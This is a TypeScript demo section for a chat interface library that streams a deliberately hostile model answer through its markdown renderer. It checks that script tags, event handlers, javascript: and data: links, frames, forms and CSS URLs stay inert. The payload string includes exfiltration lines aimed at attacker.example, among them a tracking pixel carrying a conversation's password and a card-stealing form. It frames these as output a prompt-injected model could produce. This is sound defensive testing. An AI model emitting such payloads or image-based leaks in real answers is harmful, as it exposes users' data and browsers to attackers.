/**
 * Rendering a hostile answer. The text below is what a compromised tool result, a prompt-injected model
 * or a poisoned page could make an answer say: script tags, event handlers, javascript: and data: links,
 * a tracking image carrying the conversation, frames, forms, CSS that loads URLs. It streams through the
 * same Smoother and MarkdownStream the element uses; a watcher shows whether any script ran or any request
 * left for the attacker's host.
 */
import { MarkdownStream, Smoother, markdownStyles } from '../../src/render/index.js';
import type { DemoSection } from '../section.js';

declare global {
  interface Window {
    __streamChatDemoPwned?: string;
  }
}

/** The attacker's host: nothing must ever be requested from it. */
const EVIL = 'attacker.example';

const HOSTILE_ANSWER = `## Here is your summary

Everything below came from a web page the model was asked to summarise.

<script>window.__streamChatDemoPwned = 'script tag'</script>
<img src="x" onerror="window.__streamChatDemoPwned = 'img onerror'">
<svg onload="window.__streamChatDemoPwned = 'svg onload'"><circle r="40"/></svg>

- [Click for your prize](javascript:window.__streamChatDemoPwned='javascript link')
- [Also this one](  JaVaScRiPt:window.__streamChatDemoPwned='spaced link')
- <a href="data:text/html,<script>alert(1)</script>">a data: link</a>
- A [real link](https://developer.mozilla.org/en-US/docs/Web/Security) opens in a new tab, without opener or referrer.

![](https://${EVIL}/pixel.gif?conversation=the+user+said+their+password+is+hunter2)

![A diagram of the architecture](https://upload.wikimedia.org/wikipedia/commons/thumb/4/47/PNG_transparency_demonstration_1.png/280px-PNG_transparency_demonstration_1.png)

<iframe src="https://${EVIL}/frame"></iframe>
<form action="https://${EVIL}/steal"><input name="card" placeholder="Card number"><button>Pay</button></form>
<style>body { background: url(https://${EVIL}/css.png) }</style>
<div style="background-image: url(https://${EVIL}/inline.png)">styled</div>

| Cell with a payload | <img src=x onerror="window.__streamChatDemoPwned='table'"> |
|---|---|
| [x](javascript:window.__streamChatDemoPwned='table link') | ok |

\`\`\`html
<!-- Code is shown, never run -->
<script>window.__streamChatDemoPwned = 'code block'</script>
\`\`\`
`;

function ensureStyles(): void {
  if (document.getElementById('stream-chat-markdown-safety-styles')) return;
  const style = document.createElement('style');
  style.id = 'stream-chat-markdown-safety-styles';
  // The markdown styles may already be on the page (streaming section); adding them twice is harmless.
  style.textContent = `${markdownStyles}
.md-safety { display: grid; grid-template-columns: minmax(0, 1fr) minmax(0, 1fr); gap: 1rem; }
.md-safety > div { border: 1px solid color-mix(in srgb, currentColor 20%, transparent); border-radius: 8px; padding: 0.75rem 1rem; max-height: 30rem; overflow: auto; }
.md-safety pre.source { margin: 0; white-space: pre-wrap; font-size: 0.8rem; }
.md-safety-status { font-weight: 600; }
@media (max-width: 50rem) { .md-safety { grid-template-columns: 1fr; } }`;
  document.head.append(style);
}

const section: DemoSection = {
  id: 'markdown-safety',
  title: 'Hostile answers stay inert',
  order: 80,
  chapter: 'Safety',
  description:
    'An answer full of XSS attempts streams into the same renderer the chat uses. Left: the raw text. Right: what a reader sees. Raw HTML is shown as text, <code>javascript:</code> and <code>data:</code> links lose their target, real links open in a new tab with <code>rel="noopener noreferrer"</code>, and remote images are click-to-load placeholders showing their host (an image URL is a zero-click way to leak a conversation). The line below watches for any script run or any request to the attacker’s host.',
  mount(container: HTMLElement) {
    ensureStyles();
    const replay = document.createElement('button');
    replay.type = 'button';
    replay.textContent = 'Stream the hostile answer';
    const status = document.createElement('p');
    status.className = 'md-safety-status';
    status.setAttribute('role', 'status');
    const grid = document.createElement('div');
    grid.className = 'md-safety';
    const sourcePane = document.createElement('div');
    const source = document.createElement('pre');
    source.className = 'source';
    source.setAttribute('aria-label', 'The answer as text');
    sourcePane.append(source);
    const rendered = document.createElement('div');
    rendered.className = 'md';
    rendered.setAttribute('aria-label', 'The answer as rendered');
    grid.append(sourcePane, rendered);
    container.append(replay, status, grid);

    const requests: string[] = [];
    const observer = new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) if (entry.name.includes(EVIL)) requests.push(entry.name);
    });
    observer.observe({ type: 'resource', buffered: true });
    const report = () => {
      const ran = window.__streamChatDemoPwned;
      status.textContent =
        ran || requests.length
          ? `⚠ ${ran ? `script ran (${ran})` : ''} ${requests.length ? `${requests.length} request(s) to ${EVIL}` : ''}`
          : `✓ No script ran · no request to ${EVIL} · ${rendered.querySelectorAll('a[href]').length} safe link(s), ${rendered.querySelectorAll('img').length} image(s) loaded, ${rendered.querySelectorAll('button.md-image').length} waiting for a click`;
    };

    let smoother: Smoother | undefined;
    const play = () => {
      smoother?.dispose();
      window.__streamChatDemoPwned = undefined;
      source.textContent = HOSTILE_ANSWER;
      rendered.textContent = '';
      const markdown = new MarkdownStream(rendered);
      smoother = new Smoother((text, done) => {
        markdown.append(text);
        if (done) markdown.finish();
        else markdown.flush();
        report();
      });
      // Fed in small pieces at a reading pace, the way a model would send it.
      let offset = 0;
      const feed = setInterval(() => {
        const piece = HOSTILE_ANSWER.slice(offset, offset + 12);
        offset += 12;
        if (piece) smoother!.push(piece);
        else {
          clearInterval(feed);
          smoother!.finish();
          setTimeout(report, 1000); // late handlers or requests would show up by now
        }
      }, 30);
    };
    rendered.addEventListener('click', () => setTimeout(report, 500));
    replay.addEventListener('click', play);
    play();
  },
};

export default section;
